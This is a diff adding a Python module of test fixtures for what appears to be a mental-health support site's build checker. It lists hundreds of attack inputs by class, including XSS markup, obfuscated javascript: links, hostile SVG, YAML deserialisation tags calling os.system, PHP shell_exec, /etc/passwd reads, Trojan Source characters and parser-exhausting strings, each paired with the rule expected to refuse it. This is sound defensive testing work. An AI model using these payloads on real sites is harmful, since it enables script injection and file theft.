@@ -1,0 +1,539 @@
+"""Attacks by class, and the rule that refuses each, with its line.
+
+The classes are those of public lists: the OWASP cheat sheets on cross-site scripting, its filter evasion and
+unvalidated redirects, the security notes of Python-Markdown and of SVG, Unicode's reports 36 and 39 and the
+"Trojan Source" paper, the YAML and XML bombs, and what has been found in site generators. The lines are our own.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+PAGE, GUIDE, RECORD = "support/index.md", "guides/fighting/speak-first.md", "sources/paper.md"
+LINES, DRAWING = "support/helplines.yml", "assets/pictures/walk.svg"
+
+ANCHORS = {
+    PAGE: "You are not alone.",
+    GUIDE: "Hear the answer. [@paper:slowly]",
+    RECORD: "- Go for a walk. { #walk }",
+    LINES: "  reach: text HI to 111",
+    DRAWING: '<circle cx="280" cy="80" r="20"/>',
+}
+"""The words of each sound file in whose place an attack is put, unless it names others."""
+
+FIRST_LINES = {PAGE: 8, GUIDE: 40, RECORD: 24, LINES: 9, DRAWING: 2}
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack: put where, written how, refused by which rule and on which line."""
+
+    kind: str
+    path: str
+    words: str
+    code: str
+    line: int = 0
+    """0 for the line of the words in whose place it is put; 1 for a whole file."""
+    instead: str = ""
+    """What it replaces; empty for the words of ANCHORS, or for a whole file."""
+    link: bool = False
+
+    @property
+    def is_whole_file(self) -> bool:
+        return not self.instead and self.path not in ANCHORS
+
+    @property
+    def expected(self) -> tuple[str, int, str]:
+        line = self.line or (1 if self.is_whole_file else FIRST_LINES[self.path])
+        return self.path, line, self.code
+
+
+def _on(path: str, kind: str, code: str, *words: str) -> list[Attack]:
+    return [Attack(kind, path, each, code) for each in words]
+
+
+MARKUP = [
+    *_on(
+        PAGE,
+        "markup",
+        "raw-html",
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x></sCrIpT>",
+        "<scr<script>ipt>alert(1)</script>",
+        "<script\n>alert(1)</script\n>",
+        "<img src=x onerror=alert(1)>",
+        '<img src="x` `<script>alert(1)</script>"` `>',
+        "<svg onload=alert(1)>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+        '<iframe src="https://evil.example/"></iframe>',
+        "<object data=evil.swf></object>",
+        "<embed src=evil.swf>",
+        '<base href="https://evil.example/">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        '<link rel="stylesheet" href="https://evil.example/x.css">',
+        "<style>@import 'https://evil.example/x.css';</style>",
+        '<form action="https://evil.example/"><input name="password"></form>',
+        '<button formaction="javascript:alert(1)">Leave this page</button>',
+        "<input autofocus onfocus=alert(1)>",
+        "<select autofocus onfocus=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src onloadstart=alert(1)>",
+        "<body onload=alert(1)>",
+        "<marquee onstart=alert(1)>calm</marquee>",
+        '<div style="position:fixed;inset:0;background:url(https://evil.example/)">calm</div>',
+        '<a href="https://evil.example/" class="leave">Leave this page</a>',
+        "<template><script>alert(1)</script></template>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+        "<textarea></textarea><script>alert(1)</script>",
+        "<title></title><script>alert(1)</script>",
+        "<!-- hidden words -->",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<?php echo shell_exec('id'); ?>",
+        "<!DOCTYPE html [<!ENTITY x 'y'>]>",
+        "- <img src=x onerror=alert(1)>",
+        "> <img src=x onerror=alert(1)>",
+        "## A heading <img src=x onerror=alert(1)>",
+        "[<img src=x onerror=alert(1)>](index.md)",
+        "**<b onclick=alert(1)>calm</b>**",
+        "A calm word <b onmouseover=alert(1)>here</b>.",
+        "<xss onpointerenter=alert(1)>calm</xss>",
+        "<p is=x-evil>calm</p>",
+    ),
+    Attack("markup", PAGE, "A word.\n\nAnother\nword <u onclick=alert(1)>here</u>.", "raw-html", line=11),
+    Attack("markup", PAGE, "<svg/onload=alert(1)>", "unsafe-page"),
+    Attack("markup", PAGE, '!!! note "<img src=x onerror=alert(1)>"\n\n    Calm.', "raw-html"),
+    Attack("markup", PAGE, "| <img src=x onerror=alert(1)> | two |\n| --- | --- |\n| one | two |", "raw-html"),
+    Attack("markup", PAGE, "| one | two |\n| :-: | --- |\n| one | two |", "unsafe-page"),
+    *_on(
+        GUIDE,
+        "markup",
+        "not-in-a-guide",
+        "<script>alert(1)</script>",
+        "Hear <img src=x onerror=alert(1)> the answer. [@paper:slowly]",
+        "<!-- hidden words -->",
+        "`<script>alert(1)</script>` [@paper:slowly]",
+        "![Calm](../../assets/pictures/walk.svg) beside words. [@paper:slowly]",
+    ),
+    Attack("markup", GUIDE, "- [ ] <b onclick=alert(1)>Said.</b> { #both-spoke }", "not-in-a-guide", 48,
+           "- [ ] We have both spoken. { #both-spoke }"),
+    Attack("markup", RECORD, "- <script>alert(1)</script> { #walk }", "not-in-a-guide"),
+]  # fmt: skip
+
+ADDRESSES = [
+    *_on(
+        PAGE,
+        "address",
+        "wrong-address",
+        "[calm](javascript:alert(1))",
+        "[calm](JaVaScRiPt:alert(1))",
+        "[calm](&#106;avascript:alert(1))",
+        "[calm](&#x6A;&#x61;vascript:alert(1))",
+        "[calm](&#0000106avascript:alert(1))",
+        "[calm](javascript&colon;alert(1))",
+        "[calm](java&Tab;script:alert(1))",
+        "[calm](java&NewLine;script:alert(1))",
+        "[calm](&#1;javascript:alert(1))",
+        "[calm](%6Aavascript:alert(1))",
+        "[calm](%256Aavascript%253Aalert(1))",
+        "[calm](javascript%3Aalert(1))",
+        "[calm](<java script:alert(1)>)",
+        "[calm](javascript:%0Aalert(1))",
+        "[calm](vbscript:msgbox(1))",
+        "[calm](data:text/html,<script>alert(1)</script>)",
+        "[calm](data:text/html;base64,PHNjcmlwdD4=)",
+        "[calm](data:image/svg+xml;base64,PHN2Zz4=)",
+        "[calm](file:///etc/passwd)",
+        "[calm](blob:https://evil.example/1)",
+        "[calm](view-source:https://evil.example/)",
+        "[calm](intent://evil.example/#Intent;scheme=https;end)",
+        "[calm](ftp://evil.example/x)",
+        "[calm](http://evil.example/)",
+        "[calm](//evil.example/)",
+        "[calm](/\\evil.example/)",
+        "[calm](\\\\\\\\evil.example/)",
+        "[calm](https:evil.example)",
+        "[calm](https:/evil.example)",
+        "[calm](https:///evil.example)",
+        "[calm](https://thehotline.org@evil.example/)",
+        "[calm](https://thehotline.org%2F@evil.example/)",
+        "[calm](https://evil.example:8443/)",
+        "[calm](https://xn--thhotline-d1a.org/)",
+        "[calm](https://2130706433/)",
+        "[calm](/guides/fighting/)",
+        "[calm](../../../../etc/passwd)",
+        "[calm](..%2f..%2f..%2fetc/passwd)",
+        "[calm](%2e%2e/%2e%2e/%2e%2e/secret.md)",
+        "[calm](mailto:help@evil.example?bcc=a@evil.example&body=x)",
+        "[calm](tel:javascript:alert(1))",
+        "[calm](tel:*21*5551234#)",
+        "[calm](sms:5551234?body=x)",
+        "<javascript:alert(1)>",
+        "<data:text/html,x>",
+        "[calm][1]\n\n[1]: javascript:alert(1)",
+        '[calm][1]\n\n[1]: <vbscript:msgbox(1)> "calm"',
+        "[![calm](../assets/pictures/walk.svg)](javascript:alert(1))",
+        "- [calm](javascript:alert(1))",
+        "> [calm](javascript:alert(1))",
+    ),
+    *_on(
+        PAGE,
+        "address",
+        "outside-picture",
+        "![calm](https://evil.example/seen.gif)",
+        "![calm](//evil.example/seen.gif)",
+        "![calm](data:image/svg+xml,x)",
+        "![calm](javascript:alert(1))",
+        "![calm](../assets/pictures/../../../x.svg)",
+        "![calm](../assets/pictures/walk.svg?x=https://evil.example)",
+        "![calm](../assets/workbook.js)",
+    ),
+    *_on(
+        GUIDE,
+        "address",
+        "outside-link",
+        "[calm](javascript:alert(1).md) [@paper:slowly]",
+        "[calm](&#106;avascript:x.md) [@paper:slowly]",
+        "[calm](https://evil.example/x.md) [@paper:slowly]",
+        "[calm](//evil.example/x.md) [@paper:slowly]",
+        "[calm](../../../x.md) [@paper:slowly]",
+        "[calm](go-for-a-walk.md#x)[y](javascript:alert) [@paper:slowly]",
+        "<https://evil.example/x.md> [@paper:slowly]",
+    ),
+    Attack("address", GUIDE, "[calm](go-for-a-walk.md#--><script>) [@paper:slowly]", "outside-link"),
+    Attack("address", GUIDE, "[calm](//[evil.md) [@paper:slowly]", "outside-link"),
+    Attack("address", RECORD, "address: javascript:alert(1)", "wrong-value", 7, "address: https://paper.example/tips"),
+    Attack("address", RECORD, "address: 'https://a.example/>\"<script>'", "front-matter-markup", 7,
+           "address: https://paper.example/tips"),
+    Attack("address", "sources/study-2001.md", "doi: 10.1000/x](javascript:alert(1))", "wrong-value", 6,
+           "doi: 10.1000/example"),
+]  # fmt: skip
+
+ATTRIBUTES = [
+    *_on(
+        PAGE,
+        "attributes",
+        "wrong-attributes",
+        "Calm words. { onclick=alert(1) }",
+        "## Calm { onclick=alert(1) }",
+        "## Calm { #__search }",
+        "## Calm { #__drawer }",
+        "## Calm { .md-overlay }",
+        "## Calm { .leave }",
+        "[calm](index.md){ href=javascript:alert(1) }",
+        "[calm](index.md){ target=_blank }",
+        "![calm](../assets/pictures/walk.svg){ onload=alert(1) }",
+        "**calm**{ onclick=alert(1) }",
+        "``` { .python onclick=alert(1) }\ncalm\n```",
+        "``` { #__search }\ncalm\n```",
+    ),
+    *(
+        Attack("attributes", PAGE, f"Calm words.\n{words}", "wrong-attributes", 9)
+        for words in (
+            "{ onclick=alert(1) }",
+            "{: onmouseover=alert(1) }",
+            '{ #calm onclick="alert(1)" }',
+            "{ style=position:fixed }",
+        )
+    ),
+    Attack("attributes", PAGE, "## \\_\\_search", "theme-id"),
+    Attack("attributes", PAGE, "## \\_\\_drawer", "theme-id"),
+    Attack("attributes", GUIDE, "{ #both-spoke onclick=alert(1) }", "wrong-attributes", 48, "{ #both-spoke }"),
+    Attack("attributes", GUIDE, "{ #both-spoke .leave }", "wrong-attributes", 48, "{ #both-spoke }"),
+    Attack("attributes", GUIDE, "{ #__drawer }", "wrong-attributes", 38, "{ #listen }"),
+    Attack("attributes", GUIDE, "{ #what-next }", "id-of-the-page", 38, "{ #listen }"),
+]
+
+HEADS = [
+    Attack("front matter", path, f"title: {words}", code, 2, title)
+    for path, title in ((PAGE, "title: Support"), (GUIDE, "title: Speak first"))
+    for words, code in (
+        ('"</title><script>alert(1)</script>"', "front-matter-markup"),
+        ('"&lt;/title&gt;&lt;script&gt;"', "front-matter-markup"),
+        ('"&#60;script>"', "front-matter-markup"),
+        ('"\\x3Cscript>"', "front-matter-markup"),
+        ('"calm\\u202Emlac"', "unseen-character"),
+        ('"calm\\0"', "unseen-character"),
+        ('"\\uD800"', "unseen-character"),
+        ('"\\U7FFFFFFF"', "broken-front-matter"),
+        ("!!python/object/apply:os.system [id]", "front-matter-reference"),
+        ("&a [*a, *a]", "front-matter-reference"),
+        ("[calm, calmer]", "wrong-value"),
+        ("calm: words", "broken-front-matter"),
+        ("calm\ntitle: calmer", "key-twice"),
+    )
+]
+HEADS = [
+    Attack(each.kind, each.path, each.words, each.code, 3, each.instead) if each.code == "key-twice" else each
+    for each in HEADS
+] + [
+    Attack("front matter", PAGE, 'title: Support\ndescription: \'0;url=//evil" http-equiv="refresh\'',
+           "front-matter-markup", 3, "title: Support"),
+    Attack("front matter", PAGE, "title: Support\ntemplate: ../../evil.html", "unknown-key", 3, "title: Support"),
+    Attack("front matter", PAGE, "title: Support\nhide: [navigation]", "unknown-key", 3, "title: Support"),
+    Attack("front matter", PAGE, "title: Support\nsearch: {exclude: true}", "unknown-key", 3, "title: Support"),
+    Attack("front matter", GUIDE, "title: Speak first\ndiscreet: false", "unknown-key", 3, "title: Speak first"),
+    Attack("front matter", GUIDE, "title: Speak first\n" + "".join(f"x{n}: &x{n} [*x{n - 1}]\n" for n in range(1, 99)),
+           "front-matter-too-long", 2, "title: Speak first"),
+    Attack("front matter", GUIDE, "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]",
+           "front-matter-reference", 2, "title: Speak first"),
+    Attack("front matter", GUIDE, f"title: {'[' * 3500}", "broken-front-matter", 2, "title: Speak first"),
+    Attack("front matter", GUIDE, f"title: {'x' * 5000}", "front-matter-too-long", 2, "title: Speak first"),
+    Attack("front matter", "about/index.md", "title: Calm\nauthor: evil\n\nCalm words.", "no-front-matter"),
+    Attack("front matter", "about/index.md", "---\ntitle: Calm\n\nNo end.", "no-front-matter"),
+]  # fmt: skip
+
+_HEAD = "---\ntitle: Calm\n---\n"
+
+FILES = [
+    Attack("file", "guides/fighting/secret.md", "/etc/passwd", "symbolic-link", link=True),
+    Attack("file", "guides/elsewhere", "/etc", "symbolic-link", link=True),
+    Attack("file", "assets/pictures/secret.svg", "../../../../secret", "symbolic-link", link=True),
+    Attack("file", "sources/other.fingerprint", "/etc/passwd", "symbolic-link", link=True),
+    *(
+        Attack("file", path, words, "unexpected-file")
+        for path, words in (
+            ("index.html", "<script>alert(1)</script>"),
+            ("support/evil.htm", "<script>alert(1)</script>"),
+            ("support/evil.xhtml", "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
+            ("support/evil.php", "<?php system('id');"),
+            ("support/evil.py", "import os"),
+            ("support/evil.wasm", "\0asm"),
+            ("support/evil.svgz", "\x1f\x8b"),
+            ("support/evil.xml", "<x/>"),
+            ("support/evil.json", "{}"),
+            ("support/evil.pdf", "%PDF-1.7"),
+            ("support/evil.txt", "calm"),
+            ("support/evil.md.html", "calm"),
+            ("assets/pictures/photo.png", "<html><script>alert(1)</script></html>"),
+            ("assets/pictures/photo.jpg", "GIF89a/*<script>*/"),
+            ("assets/banner.gif", "GIF89a=1;alert(1)"),
+            ("robots.txt", "User-agent: *"),
+            ("redirects", "/* https://evil.example/ 301"),
+            ("search/search_index.json", "{}"),
+            ("helplines.yml", "- country: Evil"),
+        )
+    ),
+    *(
+        Attack("file", path, words, "misplaced-file")
+        for path, words in (
+            ("support/evil.js", "alert(1)"),
+            ("evil.css", "@import url(//evil.example)"),
+            ("assets/javascripts/bundle.js", "alert(1)"),
+            ("assets/stylesheets/main.css", "body { display: none }"),
+            ("assets/pictures/evil.js", "alert(1)"),
+            ("support/evil.svg", "<svg/>"),
+            ("guides/calm.md", _HEAD),
+            ("guides/fighting/deeper/calm.md", _HEAD),
+            ("sources/index.md", _HEAD),
+            ("sources/by-guide.md", _HEAD),
+            ("checklists/index.md", _HEAD),
+            ("workbook/index.md", _HEAD),
+            ("workbook/pdf/calm.md", _HEAD),
+            ("worksheets/deeper/calm.md", _HEAD),
+            ("assets/calm.md", _HEAD),
+        )
+    ),
+    *(
+        Attack("file name", path, _HEAD, "file-name")
+        for path in (
+            "support/Calm.md",
+            "support/calm words.md",
+            "support/calm\nwords.md",
+            "support/calm\u202edm.exe.md",
+            "support/c\u0430lm.md",
+            "support/calm\udcff.md",
+            "support/-calm.md",
+            "support/calm--words.md",
+            "support/calm%2e%2e.md",
+            "support/calm?.md",
+            "support/<b>.md",
+            "support/con.md",
+            "support/nul.md",
+            "support/com1.md",
+            "support/" + "x" * 90 + ".md",
+        )
+    ),
+    Attack("file name", "assets/workbook.js", "alert(1)", "file-name-twice"),
+    Attack("encoding", "about/index.md", "---\ntitle: M\udcfcde\n---\n", "not-utf-8", 2),
+    Attack("encoding", "about/index.md", "\udcff\udcfeC\0a\0", "not-utf-8", 1),
+    Attack("encoding", "about/index.md", "\udcc0\udcbcscript>", "not-utf-8", 1),
+    Attack("encoding", "about/index.md", "\udced\udca0\udc80", "not-utf-8", 1),
+    Attack("size", "about/index.md", _HEAD + "Calm words.\n\n" * 10_000, "file-too-large", 1),
+    Attack("size", "sources/paper.fingerprint", "0123456789ab\n" * 10_000, "file-too-large", 1),
+    Attack("fingerprint", "sources/paper.fingerprint", "0123456789ab\nThe article.", "broken-fingerprint", 2),
+    Attack("fingerprint", "sources/paper.fingerprint", "<script>alert(1)</script>", "broken-fingerprint", 1),
+]  # fmt: skip
+
+CHARACTERS = [
+    Attack("characters", path, words, code)
+    for path, before, after in (
+        (PAGE, "Calm", "words."),
+        (GUIDE, "Calm", "words. [@paper:slowly]"),
+    )
+    for words, code in (
+        (f"{before} \u202esdrow\u202c {after}", "unseen-character"),
+        (f"{before} \u2067sdrow\u2069 {after}", "unseen-character"),
+        (f"{before}\u200e {after}", "unseen-character"),
+        (f"{before}\u200b {after}", "unseen-character"),
+        (f"{before}\u200c{after}", "unseen-character"),
+        (f"{before}\u200d{after}", "unseen-character"),
+        (f"{before}\u00ad{after}", "unseen-character"),
+        (f"{before}\ufeff {after}", "unseen-character"),
+        (f"{before}\u2060 {after}", "unseen-character"),
+        (f"{before}\U000e0068\U000e0069 {after}", "unseen-character"),
+        (f"{before}\ufe01 {after}", "unseen-character"),
+        (f"{before}\U000e0101 {after}", "unseen-character"),
+        (f"{before}\u3164 {after}", "unseen-character"),
+        (f"{before}\u2028{after}", "unseen-character"),
+        (f"{before}\x00 {after}", "unseen-character"),
+        (f"{before}\x1b[2J {after}", "unseen-character"),
+        (f"{before}\x08\x08 {after}", "unseen-character"),
+        (f"{before}\r{after}", "unseen-character"),
+        (f"{before}\ue000 {after}", "unseen-character"),
+        (f"{before} \U0001f468\u200dman {after}", "unseen-character"),
+        (f"C\u0430lm {after}", "mixed-scripts"),
+        (f"Calm\u03bf {after}", "mixed-scripts"),
+        (f"\U0001d402\U0001d41a\U0001d425\U0001d426 {after}", "mixed-scripts"),
+        (f"\uff23\uff41\uff4c\uff4d {after}", "mixed-scripts"),
+        (f"Ca{chr(0x301) * 9}lm {after}", "stacked-marks"),
+    )
+] + [
+    Attack("characters", DRAWING, "<text>\u202emlac</text>", "unseen-character"),
+    Attack("characters", "assets/evil.js", "const calm = '\u202e'; // \u2066", "unseen-character"),
+    Attack("characters", LINES, "  reach: call \u202e000", "unseen-character"),
+    Attack("characters", LINES, '  reach: "call \\u202e000"', "unseen-character"),
+]
+
+SOUND = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 200">'
+DRAWINGS = [
+    *_on(
+        DRAWING,
+        "drawing",
+        "unsound-drawing",
+        "<script>alert(1)</script>",
+        '<script href="https://evil.example/x.js"/>',
+        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
+        '<circle r="1" onload="alert(1)"/>',
+        '<circle r="1" ONCLICK="alert(1)"/>',
+        '<use href="https://evil.example/x.svg#x"/>',
+        '<use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="data:image/svg+xml,x#x"/>',
+        '<image href="https://evil.example/seen.gif"/>',
+        '<a href="javascript:alert(1)"><circle r="9"/></a>',
+        "<style>@import url(https://evil.example/x.css)</style>",
+        '<circle style="background: url(https://evil.example/)" r="1"/>',
+        '<circle fill="url(https://evil.example/#x)" r="1"/>',
+        '<circle fill="\\75 rl(https://evil.example/#x)" r="1"/>',
+        '<circle fill="u&#114;l(#x)" r="1"/>',
+        '<set attributeName="href" to="javascript:alert(1)"/>',
+        '<animate attributeName="x" from="1" to="2"/>',
+        '<filter><feImage href="https://evil.example/"/></filter>',
+        '<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
+        '<g xml:base="https://evil.example/"/>',
+        "<![CDATA[<script>alert(1)</script>]]>",
+        '<?xml-stylesheet href="https://evil.example/x.css"?>',
+        "<metadata>calm</metadata>",
+        '<circle id="__search" r="1"/>',
+        '<circle class="leave" r="1"/>',
+    ),
+    Attack("drawing", DRAWING, "<g>" * 40 + "</g>" * 40, "unsound-drawing"),
+    *(
+        Attack("drawing", "assets/pictures/evil.svg", words, "unsound-drawing", 1)
+        for words in (
+            f'<!DOCTYPE svg [<!ENTITY a "b">]>{SOUND}</svg>',
+            f'<!DOCTYPE svg SYSTEM "file:///etc/passwd">{SOUND}</svg>',
+            f'<?xml version="1.0" encoding="UTF-7"?>{SOUND}</svg>',
+            "<html><script>alert(1)</script></html>",
+            "GIF89a",
+            SOUND,
+            f"{SOUND.replace('640 200', '999999 999999')}</svg>",
+        )
+    ),
+    Attack("drawing", "assets/evil.svg", f"{SOUND}<script>alert(1)</script></svg>", "unsound-drawing", 1),
+]
+
+SLOW = [
+    *_on(
+        PAGE,
+        "slow",
+        "too-dense",
+        "[" * 5_000,
+        "![" * 3_000,
+        "[a](" * 2_000,
+        "[a](<" * 2_000,
+        "*a " * 3_000,
+        "**a *b " * 1_500,
+        "_a" * 3_000,
+        "`" * 3_999,
+        "` `` ``` " * 900,
+        "<a " * 3_000,
+        "&" * 3_999,
+        "&#" * 2_500,
+        "\\" * 3_999,
+        ">" * 3_000,
+        "> " * 2_000 + "calm",
+        "- " * 2_000 + "calm",
+        "1. " * 1_000 + "calm",
+        "    " * 900 + "calm",
+        "|" * 3_000 + "\n" + "|-" * 1_500,
+        "x" * 20_000,
+        "calm words\n" * 4_000,
+        "[1]: calm\n" * 2_000,
+        "{" * 3_000,
+        '"' * 3_000,
+        "(" * 3_000,
+        "~" * 3_000,
+        "!" * 3_000,
+    ),
+    *_on(GUIDE, "slow", "too-dense", "[" * 5_000, "**a *b " * 1_500, "> " * 2_000 + "calm", "[@" * 3_000),
+]
+
+INCLUDES = [
+    *_on(
+        PAGE,
+        "include",
+        "snippet-include",
+        '--8<-- "../mkdocs.yml"',
+        "--8<--\n../mkdocs.yml\n--8<--",
+        '```\n--8<-- "/etc/passwd"\n```',
+        '    --8<-- "/etc/passwd"',
+        '-8<- "https://evil.example/x.md"',
+    ),
+    Attack("include", GUIDE, '--8<-- "../mkdocs.yml" [@paper:slowly]', "snippet-include"),
+]
+INCLUDES = [
+    Attack(each.kind, each.path, each.words, each.code, 9) if each.words.startswith("```") else each
+    for each in INCLUDES
+]
+
+HELPLINES = [
+    Attack("helplines", LINES, words, code, line, instead)
+    for words, code, line, instead in (
+        ("  reach: text <script>alert(1)</script>", "helpline-value", 9, "  reach: text HI to 111"),
+        ("  reach: '[call](javascript:alert(1))'", "helpline-value", 9, "  reach: text HI to 111"),
+        ("  reach: ''", "helpline-value", 9, "  reach: text HI to 111"),
+        ("  reach: |\n    one\n    two", "helpline-value", 9, "  reach: text HI to 111"),
+        ("  address: https://evil.example", "helpline-value", 11, "  address: other.example"),
+        ("  address: evil.example)[x](javascript:alert(1)", "helpline-value", 11, "  address: other.example"),
+        ("  address: 'evil.example\"onclick=alert(1)'", "helpline-value", 11, "  address: other.example"),
+        ("  address: thehotline.org@evil.example", "helpline-value", 11, "  address: other.example"),
+        ("  address: localhost", "helpline-value", 11, "  address: other.example"),
+        ("  reach: call 1\n  reach: call 2", "helpline-keys", 7, "  reach: text HI to 111"),
+        ("  reach: [1, 2]", "helpline-keys", 7, "  reach: text HI to 111"),
+        ("  ? [a]\n  : b", "helpline-keys", 7, "  reach: text HI to 111"),
+        ("  extra: 1\n  reach: call 1", "helpline-keys", 7, "  reach: text HI to 111"),
+        ("  reach: &a call", "broken-helplines", 9, "  reach: text HI to 111"),
+        ("  reach: !!python/name:os.system", "broken-helplines", 9, "  reach: text HI to 111"),
+        ("  reach: " + "[" * 5_000, "broken-helplines", 1, "  reach: text HI to 111"),
+        ("  checked: 0000-00-00", "helpline-date", 7, "  checked: 2026-01-03"),
+        ("  checked: 99999-01-01", "helpline-date", 7, "  checked: 2026-01-03"),
+    )
+]
+
+ATTACKS = [
+    *(*MARKUP, *ADDRESSES, *ATTRIBUTES, *HEADS, *FILES, *CHARACTERS),
+    *(*DRAWINGS, *SLOW, *INCLUDES, *HELPLINES),
+]
